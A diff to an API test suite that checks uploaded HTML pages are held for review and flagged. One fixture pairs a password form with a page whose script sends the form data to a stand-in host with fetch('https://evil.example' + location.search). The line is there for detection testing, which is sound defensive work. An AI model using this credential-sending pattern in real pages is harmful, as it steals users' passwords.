@@ -109,6 +109,9 @@ describe('POST /api/v1/documents with html', () => {
     expect(status).toBe(201);
     expect(body.review_status).toBe('held');
     expect(body.message).toContain('held for review; nobody can open it until it is approved');
+    expect(body.warnings).toContainEqual(
+      expect.stringMatching(/its form sends it to evil\.example\. .* administrator/),
+    );
   });
 
   it('accepts a page with NUL in its title and its addresses', async () => {
@@ -229,7 +232,10 @@ describe('POST /api/v1/documents with a file', () => {
   it.each([
     [
       'one page asks for a password and another runs scripts',
-      { 'a.html': '<form action=b.html><input type=password></form>', 'b.html': '<script>send()</script>' },
+      {
+        'a.html': '<form action=b.html><input type=password></form>',
+        'b.html': '<script>fetch("https://evil.example" + location.search)</script>',
+      },
     ],
     [
       'the page that asks is XML',
